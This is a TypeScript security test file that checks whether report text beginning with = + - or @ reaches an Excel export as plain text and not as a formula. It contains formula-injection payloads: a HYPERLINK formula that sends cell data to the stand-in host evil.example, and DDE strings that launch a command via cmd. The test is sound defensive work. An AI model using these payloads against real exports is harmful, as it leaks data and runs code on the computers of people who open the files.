/**
 * Formula injection: reporter text starting with = + - @ reaches the handlers' Excel export as text,
 * never as a formula cell.
 */
import {
  type AttackCase,
  caseNumberOf,
  expect,
  exportWorkbook,
  fileReport,
  type Tools,
  today,
} from '../support.ts';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

let exported: Map<string, string> | undefined;

/** Files one report per payload, then exports company 1 once for all four cases. */
async function exportWithPayloads(t: Tools): Promise<Map<string, string>> {
  if (exported) return exported;
  for (const what of PAYLOADS)
    caseNumberOf(await fileReport(t, { fields: { what, where: what, perpetrator: what } }));
  exported = await exportWorkbook(t, { from: today(), to: today() });
  return exported;
}

export const formulaCases: AttackCase[] = PAYLOADS.map(
  (payload): AttackCase => ({
    area: 'formula',
    name: `reporter text starting with ${payload[0]} is not a formula in the export`,
    async run(t) {
      const parts = await exportWithPayloads(t);
      const sheets = [...parts].filter(([name]) => name.startsWith('xl/worksheets/'));
      expect(sheets.length > 0, 'the export has no worksheet');
      for (const [name, xml] of sheets) expect(!/<f[\s>]/.test(xml), `${name} holds a formula cell`);
      const text = [...parts.values()].join('\n');
      const escaped = payload
        .slice(1, 12)
        .replace(/&/g, '&amp;')
        .replace(/"/g, '&quot;')
        .replace(/'/g, '&apos;');
      const plain = payload.slice(1, 12).replace(/&/g, '&amp;');
      expect(
        text.includes(escaped) || text.includes(plain) || text.includes(payload.slice(1, 8)),
        'the text is missing from the export',
      );
    },
  }),
);
